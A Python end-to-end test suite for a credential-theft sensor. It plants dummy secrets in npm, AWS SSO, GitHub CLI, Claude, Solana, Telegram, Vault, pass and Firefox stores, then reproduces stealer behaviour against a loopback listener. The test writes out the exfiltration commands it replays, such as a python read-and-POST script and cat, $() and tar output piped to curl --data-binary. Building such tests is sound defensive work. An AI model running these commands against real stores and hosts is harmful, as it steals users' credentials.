#!/usr/bin/env python3
"""End-to-end tests of the credential stores the 2024-2026 stealers take (issue 12,
"Coverage of real stealers"; docs/rules.md, "How the study was done"): real kernel,
real processes (python, bash, cat, tar, curl, rclone, terraform), loopback only.

  stores_test.py BARBWIRE SOURCE_ROOT CASE

Each CASE is one function below; meson registers each as its own test in suite
'e2e' (named 'e2e stores_CASE'). They need root and a build with the sensor;
otherwise they exit 77 (skip), or 1 when CI=true.

Every case runs the sensor with its built-in rules (no --config), as a user would.
An attack case makes a dummy store in a home of its own (a workspace directory,
given as HOME), then reads it the way the stealer of the study does and sends it to
a listener on 127.0.0.1, and checks the alert the sensor printed: the file, its
category, the loopback destination, the relation of reader and sender, the score.
Two cases put the store in /root, the one home the sensor always knows, and read
it through a hard link under an innocent name: one in a directory the rules name
(a pass store), one a name that can sit anywhere (a Firefox profile's
logins.json). The alert must name the store through file.same_inode_as, which
only the sensor's walks can have taught it (docs/design.md, "Files by identity").
A benign case runs trusted owners (rclone, and terraform when installed) reading
their own stores and connecting, which must stay quiet while attacks reading the
same files in the same sensor run alert.

Dummy secrets only; nothing is sent anywhere but 127.0.0.1.
"""
import json
import os
import shutil
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402

BW = ""
ROOT = ""

# Dummy secrets: shaped like the real files, none of them a real credential.
NPMRC = "//registry.npmjs.org/:_authToken=npm_BarbwireE2eDummyTokenNotReal000000000\n"
AWS_SSO = ('{"startUrl": "https://barbwire-e2e.awsapps.com/start", "region": "us-east-1", '
           '"accessToken": "barbwire-e2e-dummy-sso-token", "expiresAt": "2099-01-01T00:00:00Z"}\n')
GH_HOSTS = ("github.com:\n    user: barbwire-e2e\n    oauth_token: gho_BarbwireE2eDummyNotReal0000000000000\n"
            "    git_protocol: https\n")
CLAUDE = ('{"claudeAiOauth": {"accessToken": "sk-ant-oat01-barbwire-e2e-dummy", '
          '"refreshToken": "sk-ant-ort01-barbwire-e2e-dummy", "expiresAt": 4102444800000}}\n')
SOLANA = "[" + ",".join(str((i * 37) % 256) for i in range(64)) + "]\n"
TDATA_KEY = b"TDF$barbwire-e2e-dummy-key-data-not-a-real-session\x00\x01\x02"
TDATA_MAPS = b"TDF$barbwire-e2e-dummy-maps\x00"
RCLONE = "[backup]\ntype = s3\nprovider = AWS\naccess_key_id = AKIABARBWIREE2EDUMMY\nsecret_access_key = dummy\n"
VAULT = "hvs.BarbwireE2eDummyVaultTokenNotReal\n"
PASS_ENTRY = b"-----BEGIN PGP MESSAGE-----\nbarbwire e2e dummy pass entry\n-----END PGP MESSAGE-----\n"
LOGINS = '{"nextId": 2, "logins": [{"hostname": "https://barbwire-e2e.example", "encryptedUsername": "x"}]}\n'
TF_CREDS = '{"credentials": {"127.0.0.1": {"token": "barbwire-e2e-dummy.atlasv1.notreal"}}}\n'

# Built-in category names (docs/rules.md).
PACKAGE = "package registry tokens"
CLOUD = "cloud credentials"
DEVTOKENS = "developer service tokens"
AI = "AI tool credentials"
WALLETS = "cryptocurrency wallets"
MESSAGING = "messaging app tokens"
REMOTE = "remote access credentials"
PASSWORDS = "password manager stores"
BROWSER = "browser credential stores"


def which_real(name):
    p = shutil.which(name, path="/usr/local/bin:/usr/bin:/bin")
    if p is None:
        h.skip_or_fail(f"{name} is not installed (this test runs the real {name})")
    return os.path.realpath(p)


def ctx(a):
    return f"alert: {json.dumps(a, sort_keys=True)}"


def base_score(category):
    """The category's base score in the built-in rules (read from default_rules.hpp)."""
    for c in h.builtin_rules_json(ROOT)["suspicious_files"]:
        if c["category"] == category:
            return c["base_score"]
    raise h.Failure(f"the built-in rules have no category {category!r}; update this test")


def show(label, a):
    r, p, f = a.get("reader") or {}, a.get("process") or {}, a.get("file") or {}
    print(f"{label}: relation={a.get('relation')!r} score={a.get('score')} {a.get('severity')} "
          f"sender={p.get('comm')}[{p.get('pid')}] reader={r.get('comm')}[{r.get('pid')}] "
          f"file={f.get('path')!r} ({f.get('category')!r}, same_inode_as={f.get('same_inode_as')!r}) "
          f"dest={(a.get('destination') or {}).get('addr')}:{(a.get('destination') or {}).get('port')}")


def settle(sensor, leader, timeout=h.ALERT_TIMEOUT):
    """Wait for the session's first alert, then a little longer, so a second one would show."""
    sensor.wait_for(lambda a: h.in_session(a, leader), timeout)
    time.sleep(1.0)


def one_alert(sensor, leader):
    got = sensor.alerts_in_session(leader)
    check(len(got) == 1, f"expected exactly one alert for session {leader}, got {len(got)}:\n"
                         + "\n".join(json.dumps(a, sort_keys=True) for a in got)
                         + f"\nsensor stderr:\n{sensor.stderr()}")
    return got[0]


def check_store_alert(a, *, path, category, port, relation, reader_comm=None, sender_comm=None,
                      same_inode_as=None, stat_path=None):
    """What every alert here must say: the file (path, category, inode), the loopback TCP
    destination, the relation, and the score the built-in rules give that relation."""
    f = a.get("file") or {}
    check(f.get("path") == path, f"file.path {f.get('path')!r} != {path!r}; {ctx(a)}")
    check(f.get("category") == category, f"file.category {f.get('category')!r} != {category!r}; {ctx(a)}")
    st = os.stat(stat_path or path)
    check(f.get("ino") == st.st_ino and f.get("dev") == st.st_dev,
          f"file dev/ino {f.get('dev')}/{f.get('ino')} != stat {st.st_dev}/{st.st_ino}; {ctx(a)}")
    if same_inode_as is not None:
        check(f.get("same_inode_as") == same_inode_as,
              f"file.same_inode_as {f.get('same_inode_as')!r} != {same_inode_as!r}; {ctx(a)}")
    d = a.get("destination") or {}
    want = {"op": "connect", "protocol": "tcp", "addr": "127.0.0.1", "port": port, "family": "ipv4"}
    got = {k: d.get(k) for k in want}
    check(got == want, f"destination {got} != {want}; {ctx(a)}")
    rel = a.get("relation")
    if relation == "family":
        check(rel in h.FAMILY_RELATIONS and rel != "self",
              f"relation {rel!r} should be a family relation other than self; {ctx(a)}")
    else:
        check(rel == relation, f"relation {rel!r} != {relation!r}; {ctx(a)}")
    family = {"self": 0, "ancestor": 0, "descendant": 0, "sibling": 0, "session": -1}
    want_score = base_score(category) + family[rel]
    check(a.get("score") == want_score, f"score {a.get('score')} != {want_score} ({category} at {rel}); {ctx(a)}")
    want_sev = "HIGH" if want_score >= 5 else "MEDIUM"
    check(a.get("severity") == want_sev, f"severity {a.get('severity')!r} != {want_sev!r}; {ctx(a)}")
    bd = a.get("score_breakdown") or []
    check(bd and bd[0].get("reason") == category and sum(x.get("points", 0) for x in bd) == a.get("score"),
          f"score_breakdown {bd} should start with {category!r} and sum to the score; {ctx(a)}")
    dn = a.get("delta_ns")
    check(isinstance(dn, int) and 0 <= dn <= 5_000_000_000, f"delta_ns {dn} not within 0..5 s; {ctx(a)}")
    if reader_comm is not None:
        check((a.get("reader") or {}).get("comm") == reader_comm,
              f"reader.comm {(a.get('reader') or {}).get('comm')!r} != {reader_comm!r}; {ctx(a)}")
    if sender_comm is not None:
        check((a.get("process") or {}).get("comm") == sender_comm,
              f"process.comm {(a.get('process') or {}).get('comm')!r} != {sender_comm!r}; {ctx(a)}")


def write(path, data, mode=0o600):
    os.makedirs(os.path.dirname(path), mode=0o700, exist_ok=True)
    with open(path, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)
    os.chmod(path, mode)
    return path


def make_home(ws):
    home = ws.path("home")
    os.makedirs(home, mode=0o700, exist_ok=True)
    return os.path.realpath(home)


def shell_env(home):
    return {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": home}


# The python stealer: reads the whole file, then POSTs it (one TCP connection,
# as the npm and PyPI payloads of the study do with https.request / urllib).
READ_AND_POST = (
    "data = open({path!r}, 'rb').read()\n"
    "s = socket.create_connection(('127.0.0.1', {port}))\n"
    "print('local_port', s.getsockname()[1], flush=True)\n"
    "s.sendall(b'POST /collect HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(data)"
    " + data)\n"
    "s.recv(64)\n"
    "s.close()\n"
)


def python_steals(sensor, lst, path, home):
    """A python actor (its own session) reads `path` whole and POSTs it to the HTTP
    listener; returns the actor once its alert had time to arrive."""
    actor = h.Actor(READ_AND_POST.format(path=path, port=lst.port), home=home, new_session=True)
    rep = actor.run()
    check(lst.heard_from(int(rep["local_port"])), "the listener never saw the actor's connection")
    with open(path, "rb") as f:
        secret = f.read()
    check(lst.received(secret), f"the listener did not receive the bytes of {path}")
    settle(sensor, actor.timeout_pid)
    return actor


def python_alert(sensor, actor):
    a = one_alert(sensor, actor.timeout_pid)
    check((a.get("process") or {}).get("pid") == actor.pid and (a.get("reader") or {}).get("pid") == actor.pid,
          f"sender and reader should be the actor {actor.pid}; {ctx(a)}")
    check((a.get("process") or {}).get("exe") == h.PY_REAL,
          f"process.exe {(a.get('process') or {}).get('exe')!r} != {h.PY_REAL!r}; {ctx(a)}")
    return a


# --------------------------------------------------------------------------- attacks in a workspace home

def python_store_attack(name, rel, content, category):
    """A case: a python actor reads <home>/<rel> and POSTs it; relation self."""
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        paths.update(home=home, path=write(os.path.join(home, rel), content))
        return None                                            # the built-in rules

    def body(ws, sensor, lst):
        actor = python_steals(sensor, lst, paths["path"], paths["home"])
        yield
        a = python_alert(sensor, actor)
        show(name, a)
        check_store_alert(a, path=paths["path"], category=category, port=lst.port, relation="self")
    return h.Attack(name, body, prepare, listener="http")


def attack_npmrc_token():
    """Shai-Hulud, node-ipc, across-toolkit: a postinstall-style python script reads
    ~/.npmrc and POSTs it: 'package registry tokens', self."""
    return python_store_attack("npmrc_token", ".npmrc", NPMRC, PACKAGE)


def attack_claude_credentials():
    """Bitwarden CLI 2026.4.0, Nx Console: ~/.claude/.credentials.json read and POSTed:
    'AI tool credentials', self."""
    return python_store_attack("claude_credentials", ".claude/.credentials.json", CLAUDE, AI)


def attack_solana_keypair():
    """logger-daemon-regex, BeaverTail: the Solana CLI keypair ~/.config/solana/id.json:
    'cryptocurrency wallets', self, HIGH."""
    return python_store_attack("solana_keypair", ".config/solana/id.json", SOLANA, WALLETS)


def attack_rclone_config():
    """~/.config/rclone/rclone.conf (keys of every remote it syncs): 'remote access
    credentials', self."""
    return python_store_attack("rclone_config", ".config/rclone/rclone.conf", RCLONE, REMOTE)


def attack_vault_token():
    """Nx Console 18.95.0: ~/.vault-token: 'password manager stores', self, HIGH."""
    return python_store_attack("vault_token", ".vault-token", VAULT, PASSWORDS)


def attack_aws_sso_cache():
    """A directory pattern by path: cat of the AWS CLI's SSO cache piped to curl
    (cat | curl --data-binary @-): 'cloud credentials', sibling, reader cat, sender curl."""
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        paths.update(home=home, path=write(os.path.join(home, ".aws", "sso", "cache",
                                                        "0f1e2d3c4b5a69788796a5b4c3d2e1f0.json"), AWS_SSO))
        return None

    def body(ws, sensor, lst):
        which_real("curl")
        sh = h.Shell(f'cat "$HOME"/.aws/sso/cache/*.json | curl -sS -o /dev/null --max-time 10 '
                     f'--data-binary @- http://127.0.0.1:{lst.port}/', env=shell_env(paths["home"]))
        sh.wait()
        check(lst.received(AWS_SSO.strip().encode()), f"the listener did not receive the SSO cache: {lst.bodies()}")
        settle(sensor, sh.leader)
        yield
        a = one_alert(sensor, sh.leader)
        show("aws_sso_cache", a)
        check_store_alert(a, path=paths["path"], category=CLOUD, port=lst.port, relation="sibling",
                          reader_comm="cat", sender_comm="curl")
    return h.Attack("aws_sso_cache", body, prepare, listener="http")


def attack_gh_hosts_substitution():
    """Nx s1ngularity took the GitHub CLI's token: t=$(cat ~/.config/gh/hosts.yml); curl -d "$t":
    'developer service tokens', a family relation (the $() child and curl are relatives,
    not one process)."""
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        paths.update(home=home, path=write(os.path.join(home, ".config", "gh", "hosts.yml"), GH_HOSTS))
        return None

    def body(ws, sensor, lst):
        which_real("curl")
        sh = h.Shell(f't=$(cat "$HOME"/.config/gh/hosts.yml); curl -sS -o /dev/null --max-time 10 '
                     f'--data-binary "$t" http://127.0.0.1:{lst.port}/', env=shell_env(paths["home"]))
        sh.wait()
        check(lst.received(b"gho_BarbwireE2eDummyNotReal"), f"the listener did not receive the token: {lst.bodies()}")
        settle(sensor, sh.leader)
        yield
        a = one_alert(sensor, sh.leader)
        show("gh_hosts_substitution", a)
        check_store_alert(a, path=paths["path"], category=DEVTOKENS, port=lst.port, relation="family",
                          reader_comm="cat", sender_comm="curl")
    return h.Attack("gh_hosts_substitution", body, prepare, listener="http")


def attack_telegram_tdata_tar():
    """Contagious Interview stealers copy Telegram Desktop's tdata: tar of the folder piped
    to curl: 'messaging app tokens', sibling, reader tar."""
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        base = os.path.join(home, ".local", "share", "TelegramDesktop", "tdata")
        key = write(os.path.join(base, "key_datas"), TDATA_KEY)
        maps = write(os.path.join(base, "D877F783D5D3EF8C", "maps"), TDATA_MAPS)
        write(os.path.join(base, "settingss"), b"TDF$settings")                     # named by no pattern
        paths.update(home=home, key=key, maps=maps)
        return None

    def body(ws, sensor, lst):
        which_real("curl")
        which_real("tar")
        sh = h.Shell(f'tar -C "$HOME"/.local/share/TelegramDesktop -cf - tdata | curl -sS -o /dev/null '
                     f'--max-time 10 --data-binary @- http://127.0.0.1:{lst.port}/', env=shell_env(paths["home"]))
        sh.wait()
        check(lst.received(b"barbwire-e2e-dummy-key-data"), "the listener did not receive the tdata archive")
        settle(sensor, sh.leader)
        yield
        a = one_alert(sensor, sh.leader)
        show("telegram_tdata_tar", a)
        path = (a.get("file") or {}).get("path")
        check(path in (paths["key"], paths["maps"]), f"file.path {path!r} is not one of tdata's secrets; {ctx(a)}")
        check_store_alert(a, path=path, category=MESSAGING, port=lst.port, relation="sibling",
                          reader_comm="tar", sender_comm="curl")
    return h.Attack("telegram_tdata_tar", body, prepare, listener="http")


# --------------------------------------------------------------------------- hard links to walked stores

class RootStore:
    """A dummy store under /root (the home the sensor always examines), at `rel`, and a
    hard link to it under an innocent name in /root; everything made is removed after,
    and nothing that was there before is touched."""

    def __init__(self, ws, rel, content, link_name):
        self.made = []                                  # directories this test created, deepest last
        self.path = os.path.join("/root", rel)
        d = os.path.dirname(self.path)
        missing = []
        while not os.path.exists(d):
            missing.append(d)
            d = os.path.dirname(d)
        self.link = os.path.join("/root", link_name)
        self.mine = []                                  # files this test created
        ws.defer(self.remove)
        for m in reversed(missing):
            os.mkdir(m, 0o700)
            self.made.append(m)
        check(not os.path.lexists(self.path), f"{self.path} exists already; not touching it")
        write(self.path, content)
        self.mine.append(self.path)
        check(not os.path.lexists(self.link), f"{self.link} exists already; not touching it")
        os.link(self.path, self.link)
        self.mine.append(self.link)

    def remove(self):
        for p in self.mine:
            if os.path.lexists(p):
                os.unlink(p)
        for d in reversed(self.made):
            shutil.rmtree(d, ignore_errors=True)


def hardlink_attack(name, rel, content, category, link_name):
    """A case: a store under /root that only a walk finds, read through a hard link by a
    python actor that POSTs it; the alert names the store by file.same_inode_as."""
    state = {}

    def prepare(ws):
        state["store"] = RootStore(ws, rel, content, link_name)
        return None

    def body(ws, sensor, lst):
        store = state["store"]
        check(os.stat(store.link).st_ino == os.stat(store.path).st_ino, "the hard link is not the store's inode")
        print(f"{name}: store {store.path}, hard link {store.link}")
        actor = python_steals(sensor, lst, store.link, "/nonexistent")
        yield
        # The walk taught the sensor the store's inode: a file event in the trace.
        files = [e for e in h.read_trace(ws.trace) if e.get("kind") == "file" and e.get("path") == store.path]
        st = os.stat(store.path)
        check(files and files[-1].get("dev") == st.st_dev and files[-1].get("ino") == st.st_ino,
              f"the trace has no file identity for {store.path} (dev {st.st_dev}, ino {st.st_ino}): {files}; "
              f"sensor stderr:\n{sensor.stderr()}")
        a = python_alert(sensor, actor)
        show(name, a)
        check_store_alert(a, path=store.link, category=category, port=lst.port, relation="self",
                          same_inode_as=store.path)
    return h.Attack(name, body, prepare, listener="http", record=True)


def attack_hardlink_pass_store():
    """A directory pattern through a hard link: /root/.password-store/<entry>.gpg (walked,
    as every file of a directory the rules name), read as /root/<innocent>.txt:
    'password manager stores', same_inode_as the entry."""
    tag = f"barbwire-e2e-{os.getpid()}"
    return hardlink_attack("hardlink_pass_store", f".password-store/{tag}/bank.gpg", PASS_ENTRY, PASSWORDS,
                           f"{tag}-notes.txt")


def attack_hardlink_firefox_logins():
    """A name that can sit anywhere through a hard link: a Firefox profile's logins.json
    (found by walking ~/.mozilla/firefox), read as /root/<innocent>.txt: 'browser
    credential stores', same_inode_as the profile's file."""
    tag = f"barbwire-e2e-{os.getpid()}"
    return hardlink_attack("hardlink_firefox_logins", f".mozilla/firefox/{tag}.default-release/logins.json", LOGINS,
                           BROWSER, f"{tag}-cache.txt")


ATTACKS = ["npmrc_token", "claude_credentials", "solana_keypair", "rclone_config", "vault_token",
           "aws_sso_cache", "gh_hosts_substitution", "telegram_tdata_tar",
           "hardlink_pass_store", "hardlink_firefox_logins"]
h.register_attack_cases(globals(), ATTACKS)


# --------------------------------------------------------------------------- benign: trusted owners

def trusted_owner(name, paths):
    """The real `name` at a path the built-in rules trust (root-owned, closed to group and
    other writes), or None when it is not installed there."""
    for d in ("/usr/bin", "/usr/local/bin"):
        p = os.path.join(d, name)
        if os.path.exists(p):
            p = os.path.realpath(p)
            rules = h.builtin_rules_json(ROOT)
            check(any(t.get("exe") == p for t in rules["trusted_binaries"]),
                  f"{p} is not a trusted binary of the built-in rules")
            st = os.stat(p)
            check(st.st_uid == 0 and st.st_mode & 0o022 == 0, f"{p} is not root-owned and closed to group/other writes")
            paths[name] = p
            return p
    return None


def from_package(path):
    """Whether dpkg lists `path` (dpkg -S), as the sensor's package provenance needs."""
    dpkg = shutil.which("dpkg-query")
    if dpkg is None:
        return False
    return subprocess.run([dpkg, "-S", path], capture_output=True).returncode == 0


def case_benign_trusted_owners():
    """Owners reading their own stores, each trusted for its category by root-owned path:
    rclone (/usr/bin/rclone, Debian's package; 'remote access credentials') lists a WebDAV
    remote of its rclone.conf served on 127.0.0.1, and terraform (when installed at
    /usr/local/bin or /usr/bin; 'developer service tokens') reads credentials.tfrc.json and
    asks a module registry on 127.0.0.1. Each reads its file and connects, and no alert may
    come. In the same sensor run a python actor reading each file and connecting alerts, so
    the silence is the trust, not blindness; the trace proves the owners' opens and connects."""
    h.require_root_and_sensor()
    exe = {}
    if trusted_owner("rclone", exe) is None:
        h.skip_or_fail("rclone is not installed at /usr/bin/rclone (apt-get install rclone; ./dev deps does)")
    trusted_owner("terraform", exe)
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        paths["home"] = home
        obscured = subprocess.run([exe["rclone"], "obscure", "barbwire-e2e-dummy"], capture_output=True, text=True,
                                  check=True, env=shell_env(ws.path("nohome"))).stdout.strip()
        paths["obscured"] = obscured
        paths["rclone"] = os.path.join(home, ".config", "rclone", "rclone.conf")
        paths["terraform"] = write(os.path.join(home, ".terraform.d", "credentials.tfrc.json"), TF_CREDS)
        os.makedirs(ws.path("tf"))
        if "terraform" in exe and not from_package(exe["terraform"]):
            # Issue 13: trust by path needs package provenance; a terraform installed by
            # hand (HashiCorp's zip in /usr/local/bin) is trusted by its pinned sha256,
            # as docs/rules.md says to do: the built-in rules plus that pin.
            rules = h.builtin_rules_json(ROOT)
            rules["trusted_binaries"].append({"exe": exe["terraform"], "sha256": h.sha256_of(exe["terraform"]),
                                              "categories": [DEVTOKENS]})
            print(f"terraform at {exe['terraform']} is from no package: trusted by its sha256")
            return json.dumps(rules)
        return None

    with h.scenario(BW, prepare, record=True, listener="http") as (ws, sensor, lst):
        env = shell_env(paths["home"])
        env.update(TF_IN_AUTOMATION="1", CHECKPOINT_DISABLE="1")
        write(paths["rclone"], f"[backup]\ntype = webdav\nurl = http://127.0.0.1:{lst.port}/dav\nvendor = other\n"
                               f"user = barbwire-e2e\npass = {paths['obscured']}\n")
        owners = {"rclone": f"{exe['rclone']} lsd backup: --retries 1 --low-level-retries 1 --contimeout 5s "
                            f"--timeout 10s; exit 0"}
        if "terraform" in exe:
            # A module from a registry at the listener: terraform reads its CLI configuration
            # (the credentials file included) at start, then asks the registry host for its
            # discovery document over HTTPS; the listener is no TLS server, so init fails
            # after connecting, which is all the test needs.
            with open(ws.path("tf", "main.tf"), "w") as f:
                f.write(f'module "m" {{\n  source = "127.0.0.1:{lst.port}/barbwire/e2e/null"\n}}\n')
            owners["terraform"] = f"cd {ws.path('tf')!r} && {exe['terraform']} init -input=false -no-color; exit 0"
        shells = {}
        for name, script in owners.items():
            sh = h.Shell(script, env=env)
            out, err = sh.wait(120)
            print(f"{name}: {(out + err).strip()[-300:]!r}")
            shells[name] = sh
        time.sleep(2.0)
        # The positive controls: the same files, read by python and sent.
        actors = {}
        for name in owners:
            actor = h.Actor(READ_AND_POST.format(path=paths[name], port=lst.port), home=paths["home"],
                            new_session=True)
            actor.run()
            sensor.wait_alert(actor.pid)
            actors[name] = actor
        time.sleep(1.0)
        sensor.stop_cleanly()

        ev = h.read_trace(ws.trace)
        for name, sh in shells.items():
            pids = {e["pid"] for e in ev if e.get("kind") == "exec" and e.get("exe") == exe[name]}
            check(pids, f"trace: no exec of {exe[name]}")
            opened = [e for e in ev if e.get("kind") == "open" and e.get("pid") in pids
                      and e.get("path") == paths[name]]
            check(opened, f"trace: {name} never opened {paths[name]} (did it read its store?)")
            conns = [e for e in ev if e.get("kind") in ("connect", "send") and e.get("pid") in pids
                     and e.get("addr") == "127.0.0.1" and e.get("port") == lst.port]
            check(conns, f"trace: {name} never connected to 127.0.0.1:{lst.port}")
            ours = sensor.alerts_in_session(sh.leader)
            for a in ours:
                print(f"BENIGN ALERT JSON: {json.dumps(a, sort_keys=True)}")
            check(ours == [], f"{len(ours)} alert(s) for {name} reading its own store")
            print(f"{name} ({exe[name]}): {len(opened)} open(s) of {paths[name]}, {len(conns)} connect(s) to the "
                  f"listener, no alert")
            got = sensor.alerts(actors[name].pid)
            check(len(got) == 1, f"positive control for {name}: expected one alert for the python reader, got {got}")
            show(f"control ({name})", got[0])
            f = got[0].get("file") or {}
            want = REMOTE if name == "rclone" else DEVTOKENS
            check(f.get("path") == paths[name] and f.get("category") == want,
                  f"positive control should name {paths[name]} ({want}): {ctx(got[0])}")


if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "stores_test.py"))
